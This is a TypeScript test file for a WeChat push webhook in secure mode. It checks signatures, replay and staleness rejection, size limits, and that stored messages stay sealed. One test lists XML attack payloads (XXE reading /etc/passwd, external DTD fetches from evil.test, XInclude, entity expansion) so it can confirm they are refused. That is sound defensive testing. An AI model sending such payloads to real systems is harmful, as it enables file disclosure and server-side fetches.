import { assert, it } from "@effect/vitest"
import { Effect } from "effect"
import { openChat } from "../../../support/chat.ts"
import { eachDatabase } from "../../../support/database.ts"
import { query, refusedAs } from "../../../support/refused-push.ts"
import { agreed, openid, pushed, text, xml } from "../../../support/wechat-push.ts"

eachDatabase("an account in secure mode", (database) => {
  it.effect("takes what WeChat pushes", () =>
    Effect.gen(function* () {
      const chat = yield* openChat(database)
      const { headers, status, text: said } = yield* chat.push(pushed(text("你好")))
      assert.deepStrictEqual([status, said], [200, "success"])
      assert.match(headers.get("content-type") ?? "", /^text\/plain/)
      assert.strictEqual((yield* chat.journal).length, 1)
    })
  )

  it.effect("refuses a plain body under a good signature, whatever encrypt_type says", () =>
    Effect.gen(function* () {
      const chat = yield* openChat(database)
      const plain = pushed(text("你好"), { mode: "plain" })
      yield* refusedAs(chat, plain, 403, "not encrypted")
      for (const type of ["raw", "aes"]) {
        const claiming = query(plain, (parameters) => parameters.set("encrypt_type", type))
        yield* refusedAs(chat, claiming, 403, "not encrypted")
      }
    })
  )

  it.effect("refuses another body under the signatures of one that was good", () =>
    Effect.gen(function* () {
      const chat = yield* openChat(database)
      const good = pushed(text("你好"))
      const other = pushed(text("再见"))
      yield* refusedAs(chat, { ...good, body: other.body }, 403, "signature")
      yield* refusedAs(chat, { ...good, body: xml({ ...text("再见") }) }, 403, "not encrypted")
    })
  )

  it.effect("looks at msg_signature and never at signature", () =>
    Effect.gen(function* () {
      const chat = yield* openChat(database)
      const { body, query: signed } = pushed(text("你好"))
      const parameters = new URLSearchParams(signed)
      const signature = parameters.get("signature") ?? ""
      const forged = query({ body, query: signed }, (all) => all.set("msg_signature", signature))
      yield* refusedAs(chat, forged, 403, "signature")
      yield* refusedAs(
        chat,
        query({ body, query: signed }, (all) => all.delete("msg_signature")),
        403,
        "signature"
      )
      const without = query({ body, query: signed }, (all) => all.set("signature", "0"))
      assert.strictEqual((yield* chat.push(without)).text, "success")
    })
  )

  it.effect("refuses what is more than five minutes old or early", () =>
    Effect.gen(function* () {
      const chat = yield* openChat(database)
      for (const seconds of [-301, 301])
        yield* refusedAs(chat, pushed(text("你好"), { at: 1_795_500_000 + seconds }), 403, "stale")
      for (const seconds of [-300, 300]) {
        const { status } = yield* chat.push(pushed(text("你好"), { at: 1_795_500_000 + seconds }))
        assert.strictEqual(status, 200)
      }
    })
  )

  it.effect("refuses the very same request when it comes again", () =>
    Effect.gen(function* () {
      const chat = yield* openChat(database)
      const request = pushed(text("你好"))
      assert.strictEqual((yield* chat.push(request)).status, 200)
      yield* refusedAs(chat, request, 409, "replayed")
      const repeat = pushed(text("你好"))
      assert.strictEqual((yield* chat.push(repeat)).status, 200, "WeChat's own repeat")
      yield* refusedAs(chat, repeat, 409, "replayed")
    })
  )

  it.effect("refuses what was encrypted for another account", () =>
    Effect.gen(function* () {
      const chat = yield* openChat(database)
      const by = { ...agreed, appid: "wxffffffffffffffff" }
      yield* refusedAs(chat, pushed(text("你好"), { by }), 403, "another account")
      const to = pushed(text("你好", { ToUserName: "gh_ffffffffffff" }))
      yield* refusedAs(chat, to, 403, "another account")
    })
  )

  it.effect("refuses what was encrypted with another key, or signed with another token", () =>
    Effect.gen(function* () {
      const chat = yield* openChat(database)
      const aesKey = "0".repeat(43)
      const wrong = pushed(text("你好"), { by: { ...agreed, aesKey } })
      yield* refusedAs(chat, wrong, 403, "decryption")
      const token = "anotherToken"
      yield* refusedAs(chat, pushed(text("你好"), { by: { ...agreed, token } }), 403, "signature")
    })
  )

  it.effect("refuses parameters that come twice, are missing or are no such things", () =>
    Effect.gen(function* () {
      const chat = yield* openChat(database)
      for (const name of ["timestamp", "nonce", "msg_signature", "signature", "encrypt_type"])
        yield* refusedAs(
          chat,
          query(pushed(text("你好")), (all) => all.append(name, all.get(name) ?? "")),
          400,
          "malformed"
        )
      for (const name of ["timestamp", "nonce"])
        yield* refusedAs(
          chat,
          query(pushed(text("你好")), (all) => all.delete(name)),
          400,
          "malformed"
        )
      for (const timestamp of ["1795500000000", "1e9", "-1795500000", " 1795500000"])
        yield* refusedAs(
          chat,
          query(pushed(text("你好")), (all) => all.set("timestamp", timestamp)),
          400,
          "malformed"
        )
    })
  )

  it.effect("refuses a document type, also in what was encrypted, and fetches nothing", () =>
    Effect.gen(function* () {
      const chat = yield* openChat(database)
      const evil = [
        `<!DOCTYPE xml [<!ENTITY f SYSTEM "file:///etc/passwd">]><xml><Content>&f;</Content></xml>`,
        `<!DOCTYPE xml SYSTEM "http://evil.test/x.dtd"><xml/>`,
        `<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.test/p"> %p;]><xml/>`,
        `<xml xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/>`,
        `<!DOCTYPE l [<!ENTITY a "${"a".repeat(50)}"><!ENTITY b "&a;&a;&a;">]><xml>&b;</xml>`
      ]
      for (const body of evil) {
        const { query } = pushed(text("你好"))
        const { status, text: said } = yield* chat.push({ query, body })
        assert.oneOf(status, [400, 403])
        assert.notInclude(said, "root:")
        const inside = yield* chat.push(pushed(body))
        assert.strictEqual(inside.status, 400)
      }
      assert.deepStrictEqual(chat.sent, [])
      assert.deepStrictEqual(yield* chat.journal, [])
    })
  )

  it.effect("refuses bodies that are too large, too deep, or no text", () =>
    Effect.gen(function* () {
      const chat = yield* openChat(database)
      const { query } = pushed(text("你好"))
      yield* refusedAs(chat, { query, body: "x".repeat(256 * 1024 + 1) }, 413, "too large")
      const deep = `<xml>${"<a>".repeat(20)}${"</a>".repeat(20)}</xml>`
      for (const body of ["", "success", "<xml>", "<xml><Encrypt><a/></Encrypt></xml>", deep])
        yield* refusedAs(chat, { query, body }, 400, "malformed")
      const large = yield* chat.push({ query, body: "x".repeat(2 << 20) })
      assert.strictEqual(large.status, 413)
    })
  )

  it.effect("takes every filling of a block, from 1 to 32 bytes", () =>
    Effect.gen(function* () {
      const chat = yield* openChat(database)
      for (let length = 0; length < 32; length++) {
        const message = text("x".repeat(length), { MsgId: String(1_000 + length) })
        const { status, text: said } = yield* chat.push(pushed(message))
        assert.deepStrictEqual([status, said], [200, "success"])
      }
      assert.strictEqual((yield* chat.journal).length, 32)
    })
  )

  it.effect("keeps what people say and who they are sealed", () =>
    Effect.gen(function* () {
      const chat = yield* openChat(database)
      yield* chat.push(pushed(text("CANARY-words"), { mode: "compatible" }))
      for (const secret of ["CANARY-words", openid, openid.slice(1)])
        assert.isFalse(yield* chat.anywhere(secret), secret)
    })
  )
})
